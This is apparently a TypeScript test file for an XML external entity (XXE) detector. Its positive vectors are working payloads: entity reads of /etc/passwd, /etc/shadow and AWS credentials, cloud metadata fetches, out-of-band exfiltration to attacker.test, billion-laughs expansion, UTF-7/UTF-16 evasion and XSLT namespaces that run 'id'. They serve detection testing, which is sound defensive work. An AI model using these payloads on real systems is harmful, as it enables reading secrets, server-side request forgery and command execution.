import t from 'tap';
import { detectXxe } from '../../src/detectors/xxe';

// Test vectors written for this project (not copied from any payload corpus).

/** Each must be detected at confidence `high` with an `xxe.` rule. */
const positives: string[] = [
  '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY f SYSTEM "file:///etc/hostname">]><r>&f;</r>',
  '<!DOCTYPE order [ <!ENTITY secret SYSTEM "file:///home/app/.aws/credentials"> ]><order>&secret;</order>',
  "<!DOCTYPE a [<!ENTITY b SYSTEM 'http://169.254.169.254/latest/meta-data/'>]><a>&b;</a>",
  '<!DOCTYPE a [<!ENTITY b SYSTEM "https://collector.attacker.test/x">]><a>&b;</a>',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><a>&b;</a>',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "expect://id">]><a>&b;</a>',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "jar:https://attacker.test/x.jar!/a.txt">]><a>&b;</a>',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "netdoc:/etc/group">]><a>&b;</a>',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "gopher://127.0.0.1:6379/_x">]><a>&b;</a>',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "../../../../etc/shadow">]><a>&b;</a>',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "notes.txt">]><a>&b;</a>',
  '<!DOCTYPE a [<!ENTITY b PUBLIC "-//X//Y//EN" "http://attacker.test/e.xml">]><a>&b;</a>',
  '<!DOCTYPE a[<!ENTITY b SYSTEM "file:///c:/windows/win.ini">]>',
  '<!doctype a [<!entity b system "file:///etc/passwd">]>',
  '<!DOCTYPE a [\n  <!ELEMENT a ANY>\n  <!ENTITY b SYSTEM "file:///proc/self/environ">\n]>\n<a>&b;</a>',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts"',
  '<!ENTITY exfil SYSTEM "file:///etc/passwd">',
  // Parameter entities (out-of-band).
  '<!DOCTYPE a [<!ENTITY % dtd SYSTEM "http://attacker.test/evil.dtd"> %dtd;]><a/>',
  '<!DOCTYPE a [<!ENTITY % p "<!ENTITY q SYSTEM \'file:///x\'>"> %p;]>',
  '<!DOCTYPE a [ %remote; ]>',
  '<!ENTITY % all "<!ENTITY send SYSTEM \'http://attacker.test/?%file;\'>">',
  // External DTD.
  '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
  '<!DOCTYPE a SYSTEM "ftp://attacker.test/x.dtd"><a/>',
  '<!DOCTYPE a SYSTEM "http://attacker.test/x.dtd"><a>&leak;</a>',
  // Entity expansion (billion laughs).
  '<!DOCTYPE b [<!ENTITY l0 "ha"><!ENTITY l1 "&l0;&l0;&l0;&l0;"><!ENTITY l2 "&l1;&l1;&l1;&l1;">]><b>&l2;</b>',
  '<!DOCTYPE b [<!ENTITY x "&y;&y;">]>',
  // Self-contained DTD with its own text entity (a probe).
  '<!DOCTYPE probe [<!ENTITY p "marker">]><probe>&p;</probe>',
  '<?xml version="1.0"?><!DOCTYPE note[<!ENTITY n "x"> ]><note>&n;</note>',
  // XInclude.
  '<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></doc>',
  '<xi:include href="/etc/passwd" parse="text"/>',
  '<r xmlns:inc="http://www.w3.org/2001/XInclude"><inc:include href="secret.txt"/></r>',
  // UTF-16 read byte by byte (a NUL after every ASCII character), little- and big-endian.
  utf16('<!DOCTYPE r SYSTEM "http://attacker.test/x.dtd"><r/>'),
  '\ufffd\ufffd' + utf16('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>'),
  '\u0000' + utf16('<!ENTITY % p SYSTEM "http://attacker.test/">'),
  // UTF-7, as the XML declaration announces it.
  '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE r+AFs-+ADw-!ENTITY x SYSTEM +ACI-http://attacker.test/x+ACI-+AD4-+AF0-+AD4-+ADw-r+AD4-+ACY-x+ADs-+ADw-/r+AD4-',
  "<?xml version='1.0' encoding='utf-7' ?>+ADwAIQ-DOCTYPE r SYSTEM +ACI-http://attacker.test/x.dtd+ACI-+AD4-",
  '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQBEAE8AQwBUAFkAUABFACAAcgAgAFMAWQBTAFQARQBNACAAIgBoAHQAdABwADoALwAvAGUALwB4ACIAPg-',
  // XSLT extension namespaces bound to code.
  '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:value-of select="rt:exec(rt:getRuntime(),\'id\')"/></xsl:stylesheet>',
  '<xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:r="java:java.lang.Runtime"/>',
  "<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:x = 'xalan://java.lang.Runtime'/>",
  '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:value-of select="php:function(\'system\',\'id\')"/></xsl:stylesheet>',
  '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:m="urn:schemas-microsoft-com:xslt" xmlns:u="urn:u"><m:script language="C#" implements-prefix="u">public string x(){return "";}</m:script></xsl:stylesheet>',
];

/** `s` as UTF-16LE bytes read one byte per character (what a UTF-16 body looks like read as UTF-8). */
function utf16(s: string): string {
  let out = '';
  for (const ch of s) out += ch + '\u0000';
  return out;
}

/** Each must NOT be detected at `high`. */
const negatives: string[] = [
  '<?xml version="1.0" encoding="UTF-8"?><order><id>42</id></order>',
  '<!DOCTYPE html>',
  '<!doctype html><html><body>hi</body></html>',
  '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
  '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
  '<!DOCTYPE html SYSTEM "about:legacy-compat">',
  '<!DOCTYPE coverage SYSTEM "http://cobertura.sourceforge.net/xml/coverage-04.dtd"><coverage line-rate="0.9"/>',
  '<!DOCTYPE hibernate-mapping PUBLIC "-//Hibernate/Hibernate Mapping DTD 3.0//EN" "http://www.hibernate.org/dtd/hibernate-mapping-3.0.dtd">',
  '<!DOCTYPE note SYSTEM "note.dtd"><note><to>Tove</to></note>',
  '<!DOCTYPE xsl:stylesheet [<!ENTITY nbsp "&#160;">]><xsl:stylesheet/>',
  '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg/>',
  '<!-- a comment --><root/>',
  '<![CDATA[ <!ENTITY is just text here ]]>',
  'a < b and c > d',
  '<3',
  'The <!DOCTYPE> declaration must come first.',
  'XML entities like &amp; and &lt; are predefined.',
  'Use xi:include to include documents.',
  '<include file="a.xml"/>',
  '<p>Tom &amp; Jerry</p>',
  '<svg xmlns="http://www.w3.org/2000/svg"><text>&#169; 2024</text></svg>',
  "O'Brien",
  'https://example.com/path?x=1',
  // UTF-7 and UTF-16 documents without a DTD; stylesheets with ordinary extension namespaces.
  '<?xml version="1.0" encoding="UTF-7"?><note>Hi +AGE- there, 1 +- 1</note>',
  '<?xml version="1.0" encoding="UTF-16"?><a/>',
  utf16('<a>hi</a>'),
  '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt" exclude-result-prefixes="msxsl"><xsl:copy-of select="msxsl:node-set($x)"/></xsl:stylesheet>',
  '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:exsl="http://exslt.org/common"/>',
  '<project xmlns:java="http://www.example.com/java" xmlns:j="javascript-docs"/>',
];

t.test('XXE vectors are detected at high confidence', async (t) => {
  for (const v of positives) {
    const d = detectXxe(v);
    t.equal(d?.confidence, 'high', `high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
    t.ok(d !== undefined && d.rule.startsWith('xxe.'), `rule prefix: ${JSON.stringify(v)}`);
  }
});

t.test('benign XML and HTML are not high', async (t) => {
  for (const v of negatives) {
    const d = detectXxe(v);
    t.not(d?.confidence, 'high', `not high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
  }
  t.equal(detectXxe('<!DOCTYPE html>'), undefined);
  t.equal(detectXxe('<root><a>1</a></root>'), undefined);
  t.equal(detectXxe('plain text'), undefined);
});

t.test('rules name the structure', async (t) => {
  t.equal(detectXxe('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]>')?.rule, 'xxe.external-entity');
  t.equal(detectXxe('<!DOCTYPE a [<!ENTITY % b SYSTEM "http://x/y">]>')?.rule, 'xxe.parameter-entity');
  t.equal(detectXxe('<!DOCTYPE a [<!ENTITY b "&c;&c;">]>')?.rule, 'xxe.entity-expansion');
  t.equal(detectXxe('<xi:include href="x"/>')?.rule, 'xxe.xinclude');
  t.equal(detectXxe('<!DOCTYPE a SYSTEM "file:///x">')?.rule, 'xxe.external-dtd');
  t.equal(detectXxe('<!DOCTYPE a [<!ENTITY b "text">]>')?.rule, 'xxe.internal-entity');
  t.equal(detectXxe('<!DOCTYPE note SYSTEM "note.dtd">')?.confidence, 'medium');
  t.equal(detectXxe('<!DOCTYPE x PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN" "http://www.oasis-open.org/docbook/xml/4.5/docbookx.dtd" [<!ENTITY e "v">]>')?.confidence, 'medium');
  // An external DTD alone is blind out-of-band XXE unless its host publishes well-known DTDs.
  t.equal(detectXxe('<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://h.invalid/x.dtd"><r/>')?.confidence, 'high');
  t.equal(detectXxe('<!DOCTYPE r PUBLIC "-//A//B//EN" "https://h.invalid/x.dtd"><r/>')?.confidence, 'high');
  t.equal(detectXxe('<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>')?.confidence, 'medium');
  t.equal(detectXxe('<!DOCTYPE coverage SYSTEM "http://cobertura.sourceforge.net/xml/coverage-04.dtd"><coverage/>')?.confidence, 'medium');
  t.equal(detectXxe('<!DOCTYPE hibernate-configuration PUBLIC "-//Hibernate//EN" "http://www.hibernate.org/dtd/hibernate-configuration-3.0.dtd"><x/>')?.confidence, 'medium');
  t.equal(detectXxe('<!DOCTYPE x [<!ENTITY nbsp "&#160;">]>')?.confidence, 'low');
});

t.test('reasons are short and do not echo the input', async (t) => {
  const d = detectXxe('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///' + 'a'.repeat(500) + '">]>');
  t.equal(d?.confidence, 'high');
  t.ok((d?.reason.length ?? 0) < 200);
  t.notMatch(d?.reason ?? '', /a{40}/);
});

t.test('degenerate inputs never throw', async (t) => {
  const odd = ['', '<', '<!', '<!DOCTYPE', '<!DOCTYPE ', '<!DOCTYPE a [', '<!DOCTYPE a [<!ENTITY', '<!ENTITY %', '<!ENTITY a "', "<!ENTITY a SYSTEM '", ':include', '<:include', '\ud800<!DOCTYPE a [', '<!DOCTYPE a PUBLIC'];
  for (const v of odd) t.doesNotThrow(() => detectXxe(v), JSON.stringify(v));
});

t.test('adversarial 1 MB inputs return without throwing', async (t) => {
  const MB = 1 << 20;
  const big: Record<string, string> = {
    lts: '<'.repeat(MB),
    bangs: '<!'.repeat(MB / 2),
    doctypes: '<!DOCTYPE '.repeat(MB / 10),
    entities: '<!DOCTYPE a ['.concat('<!ENTITY x "'.repeat(MB / 12)),
    refs: '<!DOCTYPE a [<!ENTITY x "' + '&a;'.repeat(MB / 4) + '">]>',
    percents: '<!DOCTYPE a [' + '%'.repeat(MB) + ']>',
    includes: '<a:include'.repeat(MB / 10),
    colons: ':include'.repeat(MB / 8),
    quotes: '<!DOCTYPE a SYSTEM "' + '"'.repeat(MB),
    amps: '<!DOCTYPE a SYSTEM "http://x/y">' + '&'.repeat(MB),
    surrogates: '<!DOCTYPE a [' + '\ud800'.repeat(MB),
    utf7: '<?xml encoding="utf-7"?>' + '+ADw-+ACE-'.repeat(MB / 10),
    utf7Long: '<?xml encoding="utf-7"?>+' + 'A'.repeat(MB),
    nuls: '<\u0000'.repeat(MB / 2),
    xmlns: 'xmlns:a="urn:schemas-microsoft-com:xslt" '.repeat(MB / 42),
  };
  for (const [name, v] of Object.entries(big)) {
    t.doesNotThrow(() => detectXxe(v), name);
  }
});

t.test('declarations found from their `!`, namespace bindings from the first colon', async (t) => {
  const ext = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>';
  // A `!` without its `<` before the declaration (the search falls back to `<!`), runs of `<` or `!`.
  for (const pre of ['', '!', '!!', 'a!b', '<<', '!<', '<!x>!', '<'.repeat(5000), '!'.repeat(5000), '<!'.repeat(3000) + '>', '<a x="'.repeat(2000)]) {
    t.equal(detectXxe(pre + ext)?.confidence, 'high', JSON.stringify(pre.slice(0, 12)));
  }
  t.equal(detectXxe('<x/>!<!ENTITY % p SYSTEM "http://h.invalid/x.dtd">')?.confidence, 'high');
  t.equal(detectXxe('<x>!!!</x>'), undefined);
  // The code namespace binding after colons elsewhere, right at the first colon, and after runs of `x`.
  const xsl = ' xmlns:j="http://xml.apache.org/xalan/java">';
  for (const pre of ['<x', '<a:b', '<x:x', '<' + 'x'.repeat(5000), '<a::::', '<a ' + '</a>x'.repeat(2000)]) {
    t.equal(detectXxe(pre + xsl)?.rule, 'xxe.xslt-extension', JSON.stringify(pre.slice(0, 12)));
  }
  t.equal(detectXxe('<xmlns: xmlns="http://xml.apache.org/xalan/java">'), undefined);
});
